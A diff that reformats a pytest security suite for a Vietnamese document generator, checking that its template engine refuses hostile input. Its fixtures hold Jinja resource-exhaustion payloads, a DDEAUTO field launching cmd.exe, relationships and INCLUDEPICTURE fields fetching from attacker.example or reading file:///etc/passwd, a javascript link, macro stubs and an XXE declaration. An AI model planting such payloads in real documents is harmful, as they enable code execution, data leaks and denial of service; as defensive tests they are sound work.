@@ -12,8 +12,8 @@ import zipfile
 import docx
 import pytest
 
-from generator.render import engine
 from generator.kinds import render_document
+from generator.render import engine
 from generator.render.engine import RenderError
 
 from .conftest import ROOT, SAMPLE, SAMPLE_DIR
@@ -30,8 +30,15 @@ def _cap() -> None:
 def vanban(*args, timeout: float = 240, lang: str = "en") -> subprocess.CompletedProcess:
     """The real CLI in a child process with 1 GB of address space."""
     env = {"VANBAN_LANG": lang, "PATH": "/usr/bin:/bin", "HOME": str(ROOT)}
-    return subprocess.run([sys.executable, "-c", "from generator.cli.app import main; main()", *map(str, args)],
-                          capture_output=True, text=True, timeout=timeout, preexec_fn=_cap, cwd=ROOT, env=env)
+    return subprocess.run(
+        [sys.executable, "-c", "from generator.cli.app import main; main()", *map(str, args)],
+        capture_output=True,
+        text=True,
+        timeout=timeout,
+        preexec_fn=_cap,
+        cwd=ROOT,
+        env=env,
+    )
 
 
 @pytest.fixture
@@ -65,23 +72,29 @@ def variant(src, out, *, edit=None, add=None, drop=()):
 # ----------------------------------------------------------------------------- 1. the template sandbox
 
 TEMPLATE_ATTACKS = {
-    "string-loops": ('{% set s = "x"*100000 %}{% for a in s %}{% for b in s %}{% endfor %}{% endfor %}',
-                     "the template loops or calls macros more than 2,000,000 times"),
+    "string-loops": (
+        '{% set s = "x"*100000 %}{% for a in s %}{% for b in s %}{% endfor %}{% endfor %}',
+        "the template loops or calls macros more than 2,000,000 times",
+    ),
     "join": ('{{ ([("x"*100000)]*100000)|join|length }}', "makes a text or list too large"),
     "print-list": ('{{ [("x"*100000)]*100000 }}', "makes a text or list too large"),
     "center": ('{{ "x"|center(1000000000) }}', "the filter 'center' is not allowed in templates"),
     "indent": ('{{ "x"|indent(1000000000) }}', "the filter 'indent' is not allowed in templates"),
     "replace": ('{{ ("x"*100000)|replace("x", "x"*100000) }}', "makes a text or list too large"),
-    "concat": ('{% set a = "x"*100000 %}{% set a = a~a %}{% set a = a~a %}{% set a = a~a %}{% set a = a~a %}'
-               '{% set a = a~a %}{% set a = a~a %}{% set a = a~a %}{% set a = a~a %}{% set a = a~a %}{{ a|length }}',
-               "makes a text or list too large"),
+    "concat": (
+        '{% set a = "x"*100000 %}{% set a = a~a %}{% set a = a~a %}{% set a = a~a %}{% set a = a~a %}'
+        "{% set a = a~a %}{% set a = a~a %}{% set a = a~a %}{% set a = a~a %}{% set a = a~a %}{{ a|length }}",
+        "makes a text or list too large",
+    ),
     "format": ("{{ '{0:>1000000000}'.format(1) }}", "the text method format is not allowed in templates"),
     "percent": ('{{ "%1000000000d" % 1 }}', "text formatting with % is not allowed in templates"),
     "integer": ("{% set a = 3 %}" + "{% set a = a*a %}" * 40 + "{{ a }}", "computes a number larger than 64 bits"),
     "macro": ("{% macro f(n) %}{{ f(n) }}{{ f(n) }}{% endmacro %}{{ f(1) }}", "macros call each other more than 20 deep"),
     "method": ('{{ "x".ljust(1000000000) }}', "access to attribute 'ljust' of 'str' object is unsafe"),
-    "output": ('{% set s = "x"*1000000 %}{% for i in range(1000) %}{{ s }}{% endfor %}',
-               "the template writes more than 40,000,000 characters"),
+    "output": (
+        '{% set s = "x"*1000000 %}{% for i in range(1000) %}{{ s }}{% endfor %}',
+        "the template writes more than 40,000,000 characters",
+    ),
     "include": ('{% include "other.docx" %}', "{% include %}, {% import %} and {% extends %} are not allowed"),
     "recursive": ("{% for b in body recursive %}{{ loop(body) }}{% endfor %}", "recursive loops are not allowed"),
 }
@@ -98,7 +111,9 @@ def test_template_attack_is_caught_by_check_and_render(tmp_path, case):
     assert line.startswith(f"{evil}: error: word/document.xml"), line  # the part, and the paragraph where it can be told
     rendered = vanban("render", SAMPLE, "-o", tmp_path / "out", "--template", evil)
     assert rendered.returncode == 1, rendered.stderr[-2000:]
-    assert rendered.stderr.startswith(f"vanban: {evil}: word/document.xml: ") and message in rendered.stderr, rendered.stderr[-2000:]
+    assert rendered.stderr.startswith(f"vanban: {evil}: word/document.xml: ") and message in rendered.stderr, rendered.stderr[
+        -2000:
+    ]
     assert "Traceback" not in rendered.stderr and not (tmp_path / "out").exists()
 
 
@@ -111,8 +126,10 @@ def test_template_check_points_at_the_paragraph_of_a_runtime_bound(tmp_path):
 def test_bound_reads_in_vietnamese(tmp_path):
     evil = template_with(tmp_path, {"{{ h.issuer }}": TEMPLATE_ATTACKS["join"][0]})
     out = vanban("template", "check", evil, lang="vi").stdout
-    assert out.strip() == (f"{evil}: lỗi: word/document.xml, đoạn “{TEMPLATE_ATTACKS['join'][0]}”: bị từ chối khi kết xuất: "
-                           "mẫu tạo ra chuỗi hoặc danh sách quá lớn (hơn 1,000,000 ký tự hoặc phần tử); đã dừng")
+    assert out.strip() == (
+        f"{evil}: lỗi: word/document.xml, đoạn “{TEMPLATE_ATTACKS['join'][0]}”: bị từ chối khi kết xuất: "
+        "mẫu tạo ra chuỗi hoặc danh sách quá lớn (hơn 1,000,000 ký tự hoặc phần tử); đã dừng"
+    )
 
 
 def test_counting_a_big_context_list_is_no_attack():
@@ -133,8 +150,13 @@ def test_wall_clock_bound(tmp_path, sample_plan, ref, monkeypatch):
 
 
 def test_allowed_filters_and_methods_still_work(tmp_path, sample_plan, ref):
-    mine = template_with(tmp_path, {"{{ h.issuer }}": '{{ (h.issuer ~ " / " ~ h.left_marks|join(", ")|default("–"))|replace("ĐẢNG ỦY", "Đảng ủy") }}'
-                                                      '{% for b in body[:2] %} {{ loop.index }}{% endfor %} {{ h.issuer.split()|length }}'})
+    mine = template_with(
+        tmp_path,
+        {
+            "{{ h.issuer }}": '{{ (h.issuer ~ " / " ~ h.left_marks|join(", ")|default("–"))|replace("ĐẢNG ỦY", "Đảng ủy") }}'
+            "{% for b in body[:2] %} {{ loop.index }}{% endfor %} {{ h.issuer.split()|length }}"
+        },
+    )
     doc = docx.Document(__import__("io").BytesIO(render_document(sample_plan, ref, mine)))
     assert doc.tables[0].cell(0, 0).paragraphs[1].text.startswith("Đảng ủy BAN CƠ YẾU CHÍNH PHỦ / ")
     assert doc.tables[0].cell(0, 0).paragraphs[1].text.endswith(" 1 2 7")
@@ -171,14 +193,14 @@ def _lie_about_size(path, part: str, size: int) -> None:
         info = z.getinfo(part)
     name = part.encode()
     local = info.header_offset
-    data[local + 22:local + 26] = size.to_bytes(4, "little")
+    data[local + 22 : local + 26] = size.to_bytes(4, "little")
     at = data.index(b"PK\x01\x02")  # the central directory's first entry
     while True:
-        n = int.from_bytes(data[at + 28:at + 30], "little")
-        m = int.from_bytes(data[at + 30:at + 32], "little")
-        k = int.from_bytes(data[at + 32:at + 34], "little")
-        if bytes(data[at + 46:at + 46 + n]) == name:
-            data[at + 24:at + 28] = size.to_bytes(4, "little")
+        n = int.from_bytes(data[at + 28 : at + 30], "little")
+        m = int.from_bytes(data[at + 30 : at + 32], "little")
+        k = int.from_bytes(data[at + 32 : at + 34], "little")
+        if bytes(data[at + 46 : at + 46 + n]) == name:
+            data[at + 24 : at + 28] = size.to_bytes(4, "little")
             break
         at += 46 + n + m + k
     path.write_bytes(bytes(data))
@@ -218,8 +240,10 @@ def test_bounded_reader_serves_excel_forms_too(tmp_path):
 
 # ----------------------------------------------------------------------------- 7. active content in templates
 
-_REL = ('<Relationship Id="rIdEvil" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
-        'Target="{target}"{mode}/>')
+_REL = (
+    '<Relationship Id="rIdEvil" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
+    'Target="{target}"{mode}/>'
+)
 
 
 def _with_rel(kind: str, target: str, external: bool = True, rels: str = "word/_rels/document.xml.rels"):
@@ -231,32 +255,71 @@ def _with_body(xml: str):
     return {"word/document.xml": lambda t: t.replace("<w:body>", "<w:body>" + xml, 1)}
 
 
-_FIELD = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> {a}</w:instrText></w:r>'
-          '<w:r><w:instrText xml:space="preserve">{b}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
-          '<w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
+_FIELD = (
+    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> {a}</w:instrText></w:r>'
+    '<w:r><w:instrText xml:space="preserve">{b}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
+    '<w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+)
 
 ACTIVE = {
-    "image-http": (dict(edit=_with_rel("image", "http://attacker.example/p.png")), "word/_rels/document.xml.rels",
-                   "relationship rIdEvil points outside the document (image → http://attacker.example/p.png)"),
-    "image-unc": (dict(edit=_with_rel("image", "file://server/share/p.png")), "word/_rels/document.xml.rels",
-                  "points outside the document (image → file://server/share/p.png)"),
-    "image-file": (dict(edit=_with_rel("image", "file:///etc/passwd")), "word/_rels/document.xml.rels",
-                   "points outside the document (image → file:///etc/passwd)"),
-    "javascript-link": (dict(edit=_with_rel("hyperlink", "javascript:alert(1)")), "word/_rels/document.xml.rels",
-                        "points outside the document (hyperlink → javascript:alert(1))"),
-    "attached-template": (dict(edit=_with_rel("attachedTemplate", "https://attacker.example/t.dotm", rels="word/_rels/settings.xml.rels"),
-                               add={"word/_rels/settings.xml.rels": ""}),
-                          "word/_rels/settings.xml.rels", "points outside the document (attachedTemplate → https://attacker.example/t.dotm)"),
-    "vba": (dict(add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}), "word/vbaProject.bin",
-            "a macro or embedded object (code Word may run); refused"),
-    "ole": (dict(edit=_with_rel("oleObject", "embeddings/oleObject1.bin", external=False)), "word/_rels/document.xml.rels",
-            "relationship rIdEvil of type oleObject (macros, embedded or imported content); refused"),
-    "dde": (dict(edit=_with_body('<w:p><w:fldSimple w:instr=\' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" \'>'
-                                 '<w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>')), "word/document.xml", "field DDEAUTO fetches, runs or imports content"),
-    "includetext": (dict(edit=_with_body(_FIELD.format(a="INCLUDE", b='TEXT "\\\\\\\\server\\\\share\\\\a.docx"'))), "word/document.xml",
-                    "field INCLUDETEXT fetches, runs or imports content"),
-    "includepicture": (dict(edit=_with_body(_FIELD.format(a="INCLUDEPICTURE", b=' "http://attacker.example/p.png" \\d'))),
-                       "word/document.xml", "field INCLUDEPICTURE fetches, runs or imports content"),
+    "image-http": (
+        dict(edit=_with_rel("image", "http://attacker.example/p.png")),
+        "word/_rels/document.xml.rels",
+        "relationship rIdEvil points outside the document (image → http://attacker.example/p.png)",
+    ),
+    "image-unc": (
+        dict(edit=_with_rel("image", "file://server/share/p.png")),
+        "word/_rels/document.xml.rels",
+        "points outside the document (image → file://server/share/p.png)",
+    ),
+    "image-file": (
+        dict(edit=_with_rel("image", "file:///etc/passwd")),
+        "word/_rels/document.xml.rels",
+        "points outside the document (image → file:///etc/passwd)",
+    ),
+    "javascript-link": (
+        dict(edit=_with_rel("hyperlink", "javascript:alert(1)")),
+        "word/_rels/document.xml.rels",
+        "points outside the document (hyperlink → javascript:alert(1))",
+    ),
+    "attached-template": (
+        dict(
+            edit=_with_rel("attachedTemplate", "https://attacker.example/t.dotm", rels="word/_rels/settings.xml.rels"),
+            add={"word/_rels/settings.xml.rels": ""},
+        ),
+        "word/_rels/settings.xml.rels",
+        "points outside the document (attachedTemplate → https://attacker.example/t.dotm)",
+    ),
+    "vba": (
+        dict(add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}),
+        "word/vbaProject.bin",
+        "a macro or embedded object (code Word may run); refused",
+    ),
+    "ole": (
+        dict(edit=_with_rel("oleObject", "embeddings/oleObject1.bin", external=False)),
+        "word/_rels/document.xml.rels",
+        "relationship rIdEvil of type oleObject (macros, embedded or imported content); refused",
+    ),
+    "dde": (
+        dict(
+            edit=_with_body(
+                "<w:p><w:fldSimple w:instr=' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" '>"
+                "<w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>"
+            )
+        ),
+        "word/document.xml",
+        "field DDEAUTO fetches, runs or imports content",
+    ),
+    "includetext": (
+        dict(edit=_with_body(_FIELD.format(a="INCLUDE", b='TEXT "\\\\\\\\server\\\\share\\\\a.docx"'))),
+        "word/document.xml",
+        "field INCLUDETEXT fetches, runs or imports content",
+    ),
+    "includepicture": (
+        dict(edit=_with_body(_FIELD.format(a="INCLUDEPICTURE", b=' "http://attacker.example/p.png" \\d'))),
+        "word/document.xml",
+        "field INCLUDEPICTURE fetches, runs or imports content",
+    ),
 }
 
 
@@ -265,9 +328,12 @@ def test_active_content_in_a_template_is_refused(tmp_path, case, inproc):
     how, part, message = ACTIVE[case]
     how = dict(how)
     if case == "attached-template":  # our template has no settings relationships: give it some
-        how["add"] = {"word/_rels/settings.xml.rels": (
-            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
-            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>')}
+        how["add"] = {
+            "word/_rels/settings.xml.rels": (
+                '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
+            )
+        }
         edit = how.pop("edit")
         src = variant(TEMPLATE, tmp_path / "with-rels.docx", add=how.pop("add"))
         evil = variant(src, tmp_path / "evil.docx", edit=edit)
@@ -277,7 +343,9 @@ def test_active_content_in_a_template_is_refused(tmp_path, case, inproc):
     assert checked.returncode == 1
     assert any(x.startswith(f"{evil}: error: {part}: ") and message in x for x in checked.stdout.splitlines()), checked.stdout
     rendered = inproc("render", SAMPLE, "-o", tmp_path / "out", "--template", evil)
-    assert rendered.returncode == 1 and rendered.stderr.startswith(f"vanban: {evil}: {part}: ") and message in rendered.stderr, rendered.stderr
+    assert rendered.returncode == 1 and rendered.stderr.startswith(f"vanban: {evil}: {part}: ") and message in rendered.stderr, (
+        rendered.stderr
+    )
     assert not (tmp_path / "out").exists()
 
 
@@ -295,26 +363,42 @@ def test_page_number_fields_are_still_allowed():
 
 def test_universal_measure_is_read_not_a_crash(tmp_path, inproc):
     # OOXML allows w:firstLine="0.5in": read as 12.7 mm, the same finding as the twips it stands for.
-    inch = variant(PLAN_DOCX, tmp_path / "inch.docx", edit={"word/styles.xml": lambda t: t.replace('w:firstLine="567"', 'w:firstLine="0.5in"')})
-    twips = variant(PLAN_DOCX, tmp_path / "twips.docx", edit={"word/styles.xml": lambda t: t.replace('w:firstLine="567"', 'w:firstLine="720"')})
+    inch = variant(
+        PLAN_DOCX,
+        tmp_path / "inch.docx",
+        edit={"word/styles.xml": lambda t: t.replace('w:firstLine="567"', 'w:firstLine="0.5in"')},
+    )
+    twips = variant(
+        PLAN_DOCX,
+        tmp_path / "twips.docx",
+        edit={"word/styles.xml": lambda t: t.replace('w:firstLine="567"', 'w:firstLine="720"')},
+    )
     a, b = inproc("check", inch), inproc("check", twips)
     assert "Traceback" not in a.stderr and a.returncode == b.returncode
     assert a.stdout.replace(str(inch), "X") == b.stdout.replace(str(twips), "X")
 
 
 def test_a_measure_that_is_not_one_is_located(tmp_path, inproc):
-    bad = variant(PLAN_DOCX, tmp_path / "bad.docx", edit={"word/styles.xml": lambda t: t.replace('w:firstLine="567"', 'w:firstLine="nửa inch"')})
+    bad = variant(
+        PLAN_DOCX,
+        tmp_path / "bad.docx",
+        edit={"word/styles.xml": lambda t: t.replace('w:firstLine="567"', 'w:firstLine="nửa inch"')},
+    )
     result = inproc("check", bad)
     assert result.returncode == 1
-    assert result.stderr.strip() == (f"vanban: {bad}: w:ind/@w:firstLine: 'nửa inch' is not a measure "
-                                     "(a number, or a number with mm, cm, in, pt or pc)")
+    assert result.stderr.strip() == (
+        f"vanban: {bad}: w:ind/@w:firstLine: 'nửa inch' is not a measure (a number, or a number with mm, cm, in, pt or pc)"
+    )
 
 
 def test_a_style_without_a_name_is_checked(tmp_path, inproc):
     import re
 
-    nameless = variant(PLAN_DOCX, tmp_path / "nameless.docx",
-                       edit={"word/styles.xml": lambda t: re.sub(r'(<w:style [^>]*w:styleId="VBNoiDung"[^>]*>)<w:name [^>]*/>', r"\1", t)})
+    nameless = variant(
+        PLAN_DOCX,
+        tmp_path / "nameless.docx",
+        edit={"word/styles.xml": lambda t: re.sub(r'(<w:style [^>]*w:styleId="VBNoiDung"[^>]*>)<w:name [^>]*/>', r"\1", t)},
+    )
     assert 'w:styleId="VBNoiDung"><w:name' not in zipfile.ZipFile(nameless).read("word/styles.xml").decode()
     result = inproc("check", nameless)
     assert "Traceback" not in result.stderr and "internal error" not in result.stderr
@@ -326,5 +410,6 @@ def test_a_doctype_in_the_theme_is_refused_by_name(tmp_path, inproc):
     evil = variant(PLAN_DOCX, tmp_path / "theme.docx", edit={"word/theme/theme1.xml": lambda t: t.replace("?>", "?>" + xxe, 1)})
     result = inproc("check", evil)
     assert result.returncode == 1
-    assert result.stderr.strip() == (f"vanban: {evil}: word/theme/theme1.xml: contains a DOCTYPE/ENTITY declaration, "
-                                     "which Word documents never need; refused")
+    assert result.stderr.strip() == (
+        f"vanban: {evil}: word/theme/theme1.xml: contains a DOCTYPE/ENTITY declaration, which Word documents never need; refused"
+    )
